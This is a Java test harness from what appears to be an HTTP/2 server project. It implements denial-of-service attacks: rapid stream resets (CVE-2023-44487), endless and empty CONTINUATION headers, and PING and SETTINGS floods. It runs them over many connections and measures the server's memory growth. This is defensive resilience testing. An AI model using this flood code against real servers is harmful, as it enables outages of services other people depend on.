package dev.athens.server;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import javax.net.ssl.SSLContext;

/**
 * What a client can do over HTTP/2 to cost a server more than itself. Each attack writes as fast as the server reads, reads
 * nothing, and tells how far it got.
 *
 * <p>By hand, against a server whose certificate is one of {@link TestCertificates}: {@code Http2Attacks <port> <pid> <path>
 * [<attack> <steps> <connections>]…}.
 */
public enum Http2Attacks {
    /** Requests without end on one connection, whose answers have no room. */
    STREAMS {
        @Override
        void step(RawHttp2 connection, int step, String path) throws IOException {
            connection.get(2 * step + 1, path);
        }
    },

    /** Requests that are broken off as soon as they are made. Source: CVE-2023-44487. */
    RESETS {
        @Override
        void step(RawHttp2 connection, int step, String path) throws IOException {
            connection.get(2 * step + 1, path);
            connection.frame(RawHttp2.RST_STREAM, 0, 2 * step + 1, new byte[4]);
        }
    },

    /** Headers that never end. Source: CVE-2024-27316 and its kin. */
    CONTINUATIONS {
        @Override
        void step(RawHttp2 connection, int step, String path) throws IOException {
            connection.frame(
                    step == 0 ? RawHttp2.HEADERS : RawHttp2.CONTINUATION,
                    0,
                    1,
                    step == 0 ? RawHttp2.request(path) : RawHttp2.header("x-" + step, "x".repeat(1000)));
        }
    },

    /** The same without a byte in them, which no limit of bytes sees. */
    EMPTY_CONTINUATIONS {
        @Override
        void step(RawHttp2 connection, int step, String path) throws IOException {
            byte[] block = step == 0 ? RawHttp2.request(path) : new byte[0];
            connection.frame(step == 0 ? RawHttp2.HEADERS : RawHttp2.CONTINUATION, 0, 1, block);
        }
    },

    /** Questions that the server has to answer, and whose answers nobody takes. Source: CVE-2019-9512. */
    PINGS {
        @Override
        void step(RawHttp2 connection, int step, String path) throws IOException {
            connection.frame(RawHttp2.PING, 0, 0, new byte[8]);
        }
    },

    /** The same with settings. Source: CVE-2019-9515. */
    SETTINGS {
        @Override
        void step(RawHttp2 connection, int step, String path) throws IOException {
            connection.settings(4, 0);
        }
    };

    /** Writes the next frames. */
    abstract void step(RawHttp2 connection, int step, String path) throws IOException;

    /**
     * How it ended.
     *
     * @param steps how many were written
     * @param connection what is left of the connection; still open unless the server has closed it
     */
    public record Outcome(int steps, boolean isClosed, RawHttp2 connection) {}

    /**
     * Attacks until the server has had enough.
     *
     * @param steps the most
     * @param patience how long a server may read nothing until that counts as its defence
     */
    public Outcome run(SSLContext trust, int port, String path, int steps, Duration patience)
            throws IOException, InterruptedException {
        RawHttp2 connection = RawHttp2.connect(trust, port, 0);
        AtomicInteger written = new AtomicInteger();
        AtomicBoolean closed = new AtomicBoolean();
        Thread writer = new Thread(() -> {
            try {
                for (int i = 0; i < steps; i++) {
                    step(connection, i, path);
                    connection.flush();
                    written.incrementAndGet();
                }
            } catch (IOException e) {
                closed.set(true);
            }
        });
        writer.setDaemon(true);
        writer.start();
        int before;
        do {
            before = written.get();
            writer.join(patience.toMillis());
        } while (writer.isAlive() && written.get() > before);
        return new Outcome(written.get(), closed.get(), connection);
    }

    /** See above. */
    public static void main(String[] arguments) throws Exception {
        int port = Integer.parseInt(arguments[0]);
        Path status = Path.of("/proc", arguments[1], "status");
        for (int i = 3; i < arguments.length; i += 3) {
            Http2Attacks attack = valueOf(arguments[i].toUpperCase(Locale.ROOT));
            int steps = Integer.parseInt(arguments[i + 1]);
            int connections = Integer.parseInt(arguments[i + 2]);
            report(attack + " before", status, "");
            List<Outcome> outcomes = new ArrayList<>();
            long sinceNanos = System.nanoTime();
            try {
                for (int j = 0; j < connections; j++) {
                    outcomes.add(
                            attack.run(TestCertificates.client(), port, arguments[2], steps, Duration.ofSeconds(2)));
                }
            } catch (IOException e) {
                System.out.println("  no more connections: " + e.getMessage());
            }
            Thread.sleep(5_000);
            report(
                    attack + " after",
                    status,
                    outcomes.size() + " connections, "
                            + outcomes.stream().mapToInt(Outcome::steps).sum() + " steps, "
                            + outcomes.stream().filter(Outcome::isClosed).count() + " closed by the server, "
                            + (System.nanoTime() - sinceNanos) / 1_000_000 + " ms");
            for (Outcome outcome : outcomes) {
                outcome.connection().close();
            }
            Thread.sleep(10_000);
            report(attack + " 10 s later", status, "");
        }
    }

    private static void report(String what, Path status, String more) throws IOException {
        String memory = Files.readAllLines(status).stream()
                .filter(line -> line.startsWith("VmRSS"))
                .findFirst()
                .orElseThrow();
        System.out.println(what + ": " + memory.replaceAll("\\s+", " ") + " " + more);
    }
}
